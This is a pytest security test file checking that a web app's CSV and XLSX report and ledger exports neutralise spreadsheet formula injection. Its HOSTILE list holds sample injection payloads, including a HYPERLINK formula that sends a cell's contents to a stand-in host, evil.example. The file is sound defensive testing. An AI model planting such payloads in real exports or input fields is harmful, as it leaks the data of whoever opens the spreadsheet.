"""Threat: formula injection through exports. Every CSV and XLSX the project offers is built from a world whose
names, addresses and notes are hostile (formulas, also after whitespace and in full-width form), and every
cell of every sheet and CSV is scanned: no live formula, no text that a spreadsheet would run. A new export
route fails `test_every_export_route_is_scanned` until it is added here."""
from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest

from tests.security.helpers import signed_in_client
from tests.support.api_helpers import as_

HOSTILE = ['=HYPERLINK("http://evil.example/x?"&A2,"点击查看")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1",
           "\r=1", " =1+2", "\u3000=1+2", "\uff1d1+2"]
RUNS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
ADMIN_PHONE = "+8617000000001"


def _is_number(text: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?%?", text.strip()) is not None


def dangerous(value) -> bool:
    """What a spreadsheet would run: text beginning with a formula character (after leading whitespace too)."""
    if not isinstance(value, str) or _is_number(value):
        return False
    return value.startswith(RUNS) or value.lstrip().startswith(RUNS)


@pytest.fixture
def hostile(app, client, world):
    admin = as_(client, world, "admin")
    for key, name in (("subdistrict", HOSTILE[6]), ("c1", HOSTILE[0]), ("c2", HOSTILE[1])):
        assert admin.patch(f"/areas/{world.ids[key]}", {"name": name}).status_code == 200
    categories = admin.get("/categories", {"per_page": 50}).get_json()["items"]
    for category, name in zip(categories, HOSTILE[2:]):
        assert admin.patch(f"/categories/{category['id']}", {"name_zh": name}).status_code == 200
    for n, (name, address) in enumerate(zip(HOSTILE, reversed(HOSTILE))):
        site = admin.post("/sites", {"area": "HD03-1-1", "name": name, "address": address or "=1", "notes": name,
                                     "kind": "coal_user"})
        assert site.status_code == 201, site.get_json()
    for category in categories[:3]:
        made = admin.post("/incidents", {"category": category["number"], "area": "HD03-1-1",
                                         "description": HOSTILE[3]})
        assert made.status_code == 201, made.get_json()
    tomorrow = (datetime.now(ZoneInfo("Asia/Shanghai")) + timedelta(days=1)).date().isoformat()  # today counts
    report = admin.post("/reports/weekly", {"area_id": world.ids["subdistrict"], "report_date": tomorrow})
    assert report.status_code == 201, report.get_json()
    return report.get_json()["id"]


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def _xlsx_cells(data: bytes) -> tuple[list, list[str]]:
    from openpyxl import load_workbook
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    with zipfile.ZipFile(io.BytesIO(data)) as package:  # a formula is an <f> element in a worksheet's XML
        raw = [name for name in package.namelist() if name.startswith("xl/worksheets/")
               and re.search(rb"<(?:\w+:)?f[ >]", package.read(name))]
    return cells, raw


def _exports(app, client, world, report_id) -> dict[str, tuple[str, bytes]]:
    admin = as_(client, world, "admin")
    web = signed_in_client(app, ADMIN_PHONE)
    got = {
        "weekly.csv (API)": admin.client.get(f"/api/v1/reports/weekly/{report_id}.csv", headers=admin.headers),
        "weekly.xlsx (API)": admin.client.get(f"/api/v1/reports/weekly/{report_id}.xlsx", headers=admin.headers),
        "weekly?format=csv (API)": admin.client.get(f"/api/v1/reports/weekly/{report_id}?format=csv",
                                                    headers=admin.headers),
        "weekly?format=xlsx (API)": admin.client.get(f"/api/v1/reports/weekly/{report_id}?format=xlsx",
                                                     headers=admin.headers),
        "weekly csv (dashboard)": web.get("/dashboard/reports/download?area=HD03&format=csv"),
        "weekly xlsx (dashboard)": web.get("/dashboard/reports/download?area=HD03&format=xlsx"),
        "ledger xlsx (dashboard)": web.get("/dashboard/ledger/export.xlsx?area=HD03"),
    }
    out = {}
    for name, response in got.items():
        assert response.status_code == 200, (name, response.status_code)
        out[name] = ("csv" if "csv" in response.mimetype else "xlsx", response.get_data())
    return out


def test_every_cell_of_every_export_is_text_a_spreadsheet_will_not_run(app, client, world, hostile):
    seen_hostile = set()
    for name, (kind, data) in _exports(app, client, world, hostile).items():
        if kind == "csv":
            values = _csv_cells(data.decode("utf-8"))
        else:
            cells, raw_formulas = _xlsx_cells(data)
            assert not raw_formulas, (name, raw_formulas)
            assert not [c.coordinate for c in cells if c.data_type == "f"], name
            assert all(c.data_type == "s" for c in cells if isinstance(c.value, str)), name
            values = [c.value for c in cells]
        assert not [v for v in values if dangerous(v)], (name, [v for v in values if dangerous(v)])
        texts = [str(v) for v in values]  # (XML reads a stored CR back as LF)
        seen_hostile |= {h for h in HOSTILE for v in texts if h in v or h.replace("\r", "\n") in v}
        if name.startswith("ledger"):
            assert "'" + HOSTILE[0] in values and "'" + HOSTILE[-1] in values  # shown as typed, behind the '
        if name == "weekly xlsx (dashboard)":
            from openpyxl import load_workbook
            book = load_workbook(io.BytesIO(data))
            assert book.worksheets[0]["A1"].value.startswith("' =1+2")          # the title names the area
            assert "分类图表" in book.sheetnames                                  # chart labels were written too
    assert seen_hostile == set(HOSTILE), set(HOSTILE) - seen_hostile


def test_every_export_route_is_scanned(app):
    """The routes that answer a spreadsheet; a new one must join the scan above."""
    exports = sorted(rule.rule for rule in app.url_map.iter_rules()
                     if re.search(r"\.(csv|xlsx)$|export|download", rule.rule))
    assert exports == ["/api/v1/reports/weekly/<int:report_id>.csv", "/api/v1/reports/weekly/<int:report_id>.xlsx",
                       "/dashboard/ledger/export.xlsx", "/dashboard/reports/download"]


def test_the_cell_writer_follows_the_owasp_rule():
    from core.domain.spreadsheets import safe_cell
    for formula in HOSTILE:
        assert safe_cell(formula) == "'" + formula
    assert safe_cell("映月社区") == "映月社区" and safe_cell(3) == 3 and safe_cell(-1.5) == -1.5
    assert safe_cell("100001 =1") == "100001 =1" and safe_cell("") == "" and safe_cell(None) is None
